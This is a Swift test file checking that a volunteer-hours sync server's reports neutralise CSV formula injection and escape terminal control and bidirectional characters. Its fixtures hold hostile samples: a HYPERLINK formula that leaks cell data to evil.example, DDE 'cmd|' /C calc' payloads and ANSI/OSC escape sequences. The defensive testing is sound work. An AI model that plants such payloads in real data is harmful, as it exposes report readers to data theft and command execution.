import Foundation
import Hummingbird
import HummingbirdTesting
import SyncModel
import SyncServer
import SyncStore
import Testing

/// Names written by stations cannot attack whoever reads a report (SPEC §12): in CSV a cell that
/// a spreadsheet program would run as a formula is neutralised, and on a terminal control and
/// bidirectional characters are shown escaped.
@Suite struct ReportInjectionTests {
    /// Names as a hostile station would write them (OWASP's CSV injection examples).
    static let formulas = [
        #"=HYPERLINK("http://evil.example/?"&A2,"点我领取补贴")"#, #"-2+3+cmd|' /C calc'!A0"#, "@SUM(1+1)*cmd|' /C calc'!A0",
        "+86 13800000000", "\t=1+1", "\r=1+1",
    ]

    @Test("CSV: text cells that start a formula get a leading quote; numbers, negative ones too, stay numbers")
    func csvNeutralisesFormulas() {
        // Given a table with hostile names and the report's own numbers, negative ones included
        let table = ReportTable(
            report: "balances", title: "时间银行余额", org: "yc", language: .zh,
            columns: [.init(key: "name", label: "姓名"), .init(key: "entries", label: "记录数"), .init(key: "balance", label: "余额")],
            rows: Self.formulas.map { [.text($0), .int(-2), .number(-3.5)] } + [[.text("林秀英"), .int(3), .number(12.25)]])

        // When it is written as CSV
        let lines = String(decoding: table.csv(), as: UTF8.self).components(separatedBy: "\r\n")

        // Then each hostile name reads as text: a quote first, the name whole after it (quoted
        // per RFC 4180 where it holds a comma, a quote or a line break)
        #expect(lines[1] == #""'=HYPERLINK(""http://evil.example/?""&A2,""点我领取补贴"")",-2,-3.5"#)
        #expect(lines[2] == #"'-2+3+cmd|' /C calc'!A0,-2,-3.5"#)
        #expect(lines[3] == #"'@SUM(1+1)*cmd|' /C calc'!A0,-2,-3.5"#)
        #expect(lines[4] == "'+86 13800000000,-2,-3.5")
        #expect(lines[5] == "'\t=1+1,-2,-3.5")
        #expect(lines[6] == "\"'\r=1+1\",-2,-3.5")
        // And plain names and the header are as they were
        #expect(lines[0] == "姓名,记录数,余额" && lines[7] == "林秀英,3,12.25")
    }

    @Test("the report CSV served over HTTP and linked from the dashboard neutralises a hostile member's name")
    func csvOverHTTP() async throws {
        // Given a member named as a formula, with a correction that leaves a negative balance
        let fixture = try await HubFixture()
        let name = Self.formulas[0]
        try fixture.store.replica.writeLocal(memberEdits("m-evil", unit: "yc-t01-c01", name: name))
        try fixture.store.replica.writeLocal([
            ("memberId", FieldValue.string("m-evil")), ("orgUnitId", .string("yc-t01-c01")), ("date", .string("2025-05-01")),
            ("hours", .number(-1.5)),
        ].map { LocalEdit(key: FieldKey(type: "volunteerHours", id: "h-fix", field: $0.0), scope: "yc-t01-c01", value: $0.1) })
        let admin = try await fixture.store.addAdminToken(name: "县委组织部").token
        var adminHeaders = fixture.headers(nil)
        adminHeaders[.authorization] = "Bearer \(admin)"
        let headers = adminHeaders

        try await fixture.application().test(.router) { client in
            // When the balances report is fetched as CSV (what the dashboard's download link fetches)
            let (status, body, _) = try await client.call(.get, "/v1/reports/balances?format=csv&lang=en&bom=1", headers: headers)
            #expect(status == .ok)
            let text = String(decoding: body, as: UTF8.self)
            // Then the name is text starting with a quote, and the negative balance is a number
            let row = try #require(text.components(separatedBy: "\r\n").first { $0.contains("m-evil") })
            #expect(row.hasPrefix(#"m-evil,"'=HYPERLINK(""http://evil.example/?""&A2,""点我领取补贴"")",yc-t01-c01,"#), "\(row)")
            #expect(row.hasSuffix(",1,-1.5"), "\(row)")
            // And JSON keeps the name exactly as written
            let (_, json, _) = try await client.call(.get, "/v1/reports/balances?lang=en", headers: headers)
            let table = try JSONDecoder().decode(ReportTable.self, from: json)
            #expect(table.column("memberName").contains(.text(name)))
        }
    }

    @Test("a report as text shows control and bidirectional characters escaped")
    func textEscapes() {
        // Given names with an OSC title sequence, a screen clear, and a right-to-left override
        let table = ReportTable(
            report: "balances", title: "余额 \u{1B}]0;pwned\u{07}", org: "yc", language: .zh,
            columns: [.init(key: "name", label: "姓名"), .init(key: "balance", label: "余额")],
            rows: [[.text("\u{1B}[2J\u{1B}[H林秀英"), .number(1)], [.text("王\u{202E}exe.txt"), .number(2)], [.text("a\u{9B}31m"), .number(3)]])

        // When it is rendered for a terminal
        let text = table.text()

        // Then nothing below U+0020 but line feeds, no C1 control and no bidi override reaches it
        #expect(!text.unicodeScalars.contains { TerminalText.needsEscape($0, keepingNewlines: true) })
        #expect(text.contains(#"\u{1B}[2J\u{1B}[H林秀英"#) && text.contains(#"王\u{202E}exe.txt"#) && text.contains(#"a\u{9B}31m"#))
        #expect(text.hasPrefix(#"余额 \u{1B}]0;pwned\u{7}"#))
    }
}
